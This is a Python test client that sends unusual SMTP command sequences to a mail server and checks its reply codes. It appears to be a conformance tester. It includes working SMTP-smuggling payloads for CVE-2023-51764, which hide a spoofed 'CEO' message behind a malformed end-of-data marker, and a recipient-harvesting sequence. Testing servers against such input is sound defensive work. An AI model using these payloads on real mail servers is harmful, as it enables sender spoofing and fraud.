#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""An SMTP client for what no ordinary client says: smtp_say.py SOURCE SERVER TALK...

Runs each named talk in a connection of its own, waits for every reply that is
due, and exits 1 when a reply does not begin with the code that the talk expects.
"""
import socket
import sys

TIMEOUT_S = 60
HELLO = [(b"EHLO odd.acme.example.com\r\n", "250")]
BYE = [(b"QUIT\r\n", "221")]
FROM, TO = b"MAIL FROM:<ann@acme.example.com>", b"RCPT TO:<bob@example.net>"
ENVELOPE = [(FROM + b"\r\n", "250"), (TO + b"\r\n", "250"), (b"DATA\r\n", "354")]


def message(subject, *body):
    """A message without its end; lines end in CRLF."""
    head = [b"From: Ann <ann@acme.example.com>", b"To: Bob <bob@example.net>"]
    head += [b"Subject: " + subject, b"Date: Mon, 1 Jan 2024 12:00:00 +0000"]
    head += [b"Message-ID: <" + subject.replace(b" ", b".") + b"@acme.example.com>", b""]
    return b"\r\n".join(head + list(body)) + b"\r\n"


def bdat(data, last=False):
    return b"BDAT %d%s\r\n" % (len(data), b" LAST" if last else b"") + data


def bdat_talk():
    """RFC 3030: chunks one by one, chunks in one write, an empty last chunk, RSET between chunks."""
    dots = message(b"chunks", b".", b"..", b"QUIT", b"a line of the message, not a command")
    group = FROM + b" BODY=8BITMIME\r\n" + TO + b"\r\n"
    yield from HELLO
    yield FROM + b"\r\n", "250"
    yield TO + b"\r\n", "250"
    yield bdat(dots[:40]), "250"
    yield bdat(dots[40:41]), "250"
    yield bdat(dots[41:], last=True), "250"
    yield group + bdat(dots[:100]) + bdat(dots[100:]) + bdat(b"", last=True), "250 250 250 250 250"
    yield group + bdat(dots[:64]), "250 250 250"
    yield b"RSET\r\n", "250"
    yield group + bdat(message(b"dots") + b"\r\n.\r\n" * 40, last=True), "250 250 250"
    yield from BYE


def verbs_talk():
    """Commands in odd dress: lower case, unknown, out of order, wrong arguments, empty."""
    yield b"ehlo odd.acme.example.com\r\n", "250"
    yield b"noop\r\n", "250"
    yield b"VRFY bob@example.net\r\n", "252"
    yield b"EXPN staff\r\n", "500"
    yield b"HELP\r\n", "500"
    yield b"XYZZY plugh\r\n", "500"
    yield b"RCPT TO:<bob@example.net>\r\n", "503"
    yield b"DATA\r\n", "503"
    yield b"MAIL FROM:<ann@acme.example.com\r\n", "501"
    yield b"mail from:<ann@acme.example.com> size=2000000000\r\n", "552"
    yield b"rset\r\n", "250"  # or Postfix remembers the size
    yield b"Mail From:<ann@acme.example.com>\r\n", "250"
    yield b"MAIL FROM:<again@acme.example.com>\r\n", "503"
    yield b"rcpt to:<slow@example.net>\r\n", "450"
    yield b"rcpt to:<nobody@example.net>\r\n", "550"
    yield b"rcpt to:<bob@elsewhere.example>\r\n", "554"
    yield b"data\r\n", "554"
    yield b"RSET\r\n", "250"
    yield b"MAIL FROM:<>\r\n", "250"
    yield TO + b"\r\n", "250"
    yield b"DATA\r\n", "354"
    yield message(b"null sender", b"..a dot was here", b"") + b".\r\n", "250"
    yield b"HELO odd.acme.example.com\r\n", "250"
    yield from BYE


def smuggled(end):
    """A message whose end is written as `end`, and behind it another that no one wants to see."""
    hidden = b"MAIL FROM:<ceo@example.org>\r\nRCPT TO:<bob@example.net>\r\nDATA\r\n"
    hidden += message(b"smuggled", b"pay this bill")
    return message(b"cover", b"nothing here")[:-2] + end + hidden + b".\r\n"


def smuggle_lf_talk():
    """CVE-2023-51764: LF . LF ends the message for a server that is too kind."""
    yield from HELLO + ENVELOPE
    yield smuggled(b"\n.\n"), "250 250 250 354 250"
    yield from BYE


def smuggle_lfcrlf_talk():
    """CVE-2023-51764: LF . CR LF."""
    yield from HELLO + ENVELOPE
    yield smuggled(b"\n.\r\n"), "250 250 250 354 250"
    yield from BYE


def bare_lf_talk():
    """Bare LF as line end inside a message that ends as it should: no attack."""
    yield from HELLO + ENVELOPE
    yield message(b"bare LF inside", b"one\ntwo\n\nthree") + b".\r\n", "250"
    yield from BYE


def segments_talk():
    """The end of data, and a command, in pieces: each write is a segment of its own."""
    yield from HELLO
    for piece in (b"MA", b"IL FROM:<ann@acme.exam", b"ple.com>\r"):
        yield piece, ""
    yield b"\n", "250"
    yield TO + b"\r\n", "250"
    yield b"DATA\r\n", "354"
    for piece in (message(b"pieces", b"body"), b".", b"\r"):
        yield piece, ""
    yield b"\n", "250"
    yield from BYE


def harvest_talk():
    """Guesses recipients (AUP-HARVEST) until the server has enough: 421, and it hangs up."""
    yield from HELLO
    yield FROM + b"\r\n", "250"
    for guess in range(23):
        if guess in (5, 15):
            yield TO + b"\r\n", "250"
        else:
            yield b"RCPT TO:<user%02d@example.net>\r\n" % guess, "421" if guess == 22 else "550"


def reply(lines):
    """Reads one reply, however many lines it has; its code."""
    while True:
        line = lines.readline()
        if not line.endswith(b"\r\n"):
            raise SystemExit(f"the server left: {line!r}")
        if line[3:4] != b"-":
            return line[:3].decode(), line


def run(source, server, talk):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(TIMEOUT_S)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.bind((source, 0))
        s.connect((server, 25))
        lines = s.makefile("rb")
        steps = [(b"", "220"), *globals()[talk + "_talk"]()]
        for said, codes in steps:
            s.sendall(said)
            for want in codes.split():
                code, line = reply(lines)
                if code != want:
                    raise SystemExit(f"{talk}: {said[:60]!r}: expected {want}, got {line!r}")


if __name__ == "__main__":
    for name in sys.argv[3:]:
        run(sys.argv[1], sys.argv[2], name)
